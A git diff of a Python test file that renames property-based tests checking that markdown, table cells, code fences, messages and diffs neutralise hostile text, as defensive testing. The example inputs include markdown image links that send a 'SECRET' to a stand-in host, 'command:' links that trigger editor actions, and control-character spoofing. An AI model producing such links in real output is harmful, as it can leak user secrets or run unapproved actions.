@@ -76,7 +76,8 @@ def bare(text: str) -> str:
 @example(words="E \\` ![value](https://evil.example/?d=SECRET) `")
 @example(words="[Accept](command:certo.accept?x)")
 @example(words="12. see https://evil.example or //localhost, a@b.example, ``` and test_shop.py")
-def test_words_in_markdown_are_text_and_code_and_say_what_they_said(words: str) -> None:
+def test_markdown_words_are_only_text_and_code(words: str) -> None:
+    """They say the same as the words that were given."""
     said = as_markdown(words)
     for parser in PARSERS:
         found = list(tokens(parser, said))
@@ -87,7 +88,7 @@ def test_words_in_markdown_are_text_and_code_and_say_what_they_said(words: str) 
 
 @given(words=HOSTILE, more=HOSTILE)
 @example(words="a\\|b ![v](https://evil.example)", more="\\\\| [x](command:certo.accept)")
-def test_words_in_a_cell_end_neither_the_cell_nor_the_row(words: str, more: str) -> None:
+def test_cell_words_end_no_cell_or_row(words: str, more: str) -> None:
     rows = f"| {as_markdown(words, in_cell=True)} | {as_markdown(more, in_cell=True)} | last |"
     for parser in PARSERS[1:]:
         found = list(tokens(parser, f"| a | b | c |\n|:--|:--|:--|\n{rows}"))
@@ -100,7 +101,7 @@ def test_words_in_a_cell_end_neither_the_cell_nor_the_row(words: str, more: str)
 
 @given(text=HOSTILE)
 @example(text="x\n```\n![v](https://evil.example)\n````\n")
-def test_a_block_of_code_ends_where_it_should(text: str) -> None:
+def test_code_blocks_end_at_their_fence(text: str) -> None:
     block = f"{as_code(text, 'diff')}\n\nafter"
     for parser in PARSERS:
         fence, *after = parser.parse(block)
@@ -119,7 +120,7 @@ def test_a_block_of_code_ends_where_it_should(text: str) -> None:
         ("boom ` ![value](https://e.example/?d=1)", "boom `` ` ![value](https://e.example/?d=1) ``"),
     ],
 )
-def test_only_what_could_be_markup_is_set_as_code(words: str, said: str) -> None:
+def test_only_possible_markup_becomes_code(words: str, said: str) -> None:
     assert as_markdown(words) == said
 
 
@@ -129,7 +130,7 @@ LINK = re.compile(r"\[([^\]]+)\]\(((?:https?://|command:|file:)[^)\s]+)", re.IGN
 
 @given(text=HOSTILE)
 @example(text="[More](command:workbench.action.terminal.new) $(trash)")
-def test_a_message_has_no_links_and_no_icons_and_nothing_unseen(text: str) -> None:
+def test_messages_have_no_links_icons_or_controls(text: str) -> None:
     said = as_message(text)
     assert LINK.search(said) is None
     assert "$(" not in said
@@ -137,7 +138,8 @@ def test_a_message_has_no_links_and_no_icons_and_nothing_unseen(text: str) -> No
 
 
 @given(text=HOSTILE)
-def test_a_line_is_one_line_and_a_text_has_only_newlines_and_tabs_besides_what_is_seen(text: str) -> None:
+def test_lines_and_texts_have_no_controls(text: str) -> None:
+    """A line is one line; a text has newlines and tabs besides what is seen."""
     assert len(one_line(text).splitlines()) <= 1
     hidden = {"Cc", "Cf", "Zl", "Zp", "Cs"}
     assert not {each for each in visible(text) if unicodedata.category(each) in hidden} - {"\n", "\t"}
@@ -146,13 +148,13 @@ def test_a_line_is_one_line_and_a_text_has_only_newlines_and_tabs_besides_what_i
 
 @given(lines=st.lists(HOSTILE.map(lambda text: text.replace("\n", "")), min_size=1, max_size=4))
 @example(lines=["+x = 1\rVERIFIED", "+y\x0cz", "+z\u2028"])
-def test_a_diff_has_the_lines_that_git_finds_in_it(lines: list[str]) -> None:
+def test_diffs_have_the_lines_git_finds(lines: list[str]) -> None:
     said = as_diff("\n".join(f"+{line}" for line in lines)).splitlines()
     assert len(said) == len(lines)
     assert all(line.startswith("+") for line in said)
 
 
-def test_a_record_of_a_log_is_one_line_and_a_traceback_is_set_in() -> None:
+def test_log_records_are_one_line_tracebacks_indented() -> None:
     stream = io.StringIO()
     handler = logging.StreamHandler(stream)
     handler.setFormatter(LogFormatter("certo: %(levelname)s: %(name)s: %(message)s"))
